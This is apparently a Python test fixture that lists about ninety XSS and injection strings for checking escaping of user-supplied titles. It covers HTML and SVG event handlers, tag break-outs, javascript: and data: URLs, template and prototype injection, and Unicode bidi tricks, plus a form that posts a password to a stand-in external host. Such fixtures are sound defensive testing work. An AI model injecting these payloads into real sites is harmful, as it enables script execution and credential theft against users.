"""Texts that try to be more than text, gathered from how pages were broken into before: each would set `window.__xss` or open a
dialog where it is taken for markup, script or an address; or it breaks the line that it stands in.

The ways are the known ones: HTML, attributes, SVG and MathML, addresses, templates, the end of a script element, what
changes while it is parsed twice, Unicode.
"""

RUN = "window.__xss=1"
ALERT = "alert(1)"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script/x>",
    "<script src=data:text/javascript,window.__xss=1></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<img src=x onerror='{RUN}' <b",
    f"<image src=x onerror={ALERT}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    f"<object data=javascript:{ALERT}></object>",
    f"<embed src=javascript:{ALERT}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    f"<form><button formaction=javascript:{ALERT}>press me</button></form>",
    "<form action=//elsewhere.example><input name=password></form>",
    "<base href=//elsewhere.example>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<plaintext><xmp><listing><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    "<x-room is=x data-realtime-room=lobby data-realtime-module=//elsewhere.example/x.js></x-room>",
    "<a href=javascript:alert(1)>press me</a>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62; &#x3c;script&#x3e; &lt",
]
WAYS_OUT = [
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</template></ol></section><script>{RUN}</script>",
    f"</style><img src=x onerror={RUN}>",
    f"<!--<script>{RUN}//",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"` onmouseover={ALERT} x=`",
    f'";{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"${{{RUN}}} `${{{ALERT}}}`",
    "\u2028window.__xss=1\u2029",
    "*/window.__xss=1/*",
]
ADDRESSES = [
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>parent.__xss=1</script>",
    "vbscript:msgbox(1)",
    "blob:http://example.org/x",
    "http://user:javascript@example.org/",
    "http://[::1",
    "https://\u202egro.elpmaxe/",
]
TEMPLATES = [
    "{{ 7*7 }} {% debug %} {# x #}",
    "{% load static %}{% csrf_token %}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{n} {names} {place} $& $1 $` $'",
    "%(name)s %s %d {0} {0.__class__}",
    "__proto__",
    "constructor",
    '[null,null,"room:lobby","phx_close",{}]',
    "../../admin/?next=//elsewhere.example",
]
CHARACTERS = [
    "\u202e>tpircs<txet",
    "\u2066\u202dleft\u2069 \u2069\u202eright",
    "\u05d0\u05d1\u05d2 123 (\u05d3)",
    "\u0627\u0644\u0633\u0644\u0627\u0645 <b>",
    "a\u200bl\u200ci\u200dc\u2060e\ufeff",
    "\u200f\u200e\u061c.",
    "Z\u0351\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0311\u0312l\u0313g\u0314o\u0315",
    "\uff1cscript\uff1e\uff57indow.__xss=1\uff1c/script\uff1e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f \u2764\ufe0f",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\x9f",
    "\ufffe\uffff\U0010ffff\ufffd",
    "\ud55c\uad6d\uc5b4 \u4e2d\u6587 \u65e5\u672c\u8a9e",
    "W" * 150,
    "\u00ad" * 60 + "soft",
]
STRINGS = [*MARKUP, *WAYS_OUT, *ADDRESSES, *TEMPLATES, *CHARACTERS]
"""More than ninety. Any of them may be what a person writes; usernames hold 150 characters, and so does each of these."""

assert len(set(STRINGS)) == len(STRINGS)
assert max(map(len, STRINGS)) <= 150


def titles(longest: int = 200) -> list[str]:
    """All of them in as few titles as they fit into."""
    found = [""]
    for text in STRINGS:
        if len(found[-1]) + len(text) > longest:
            found.append("")
        found[-1] += text
    return found
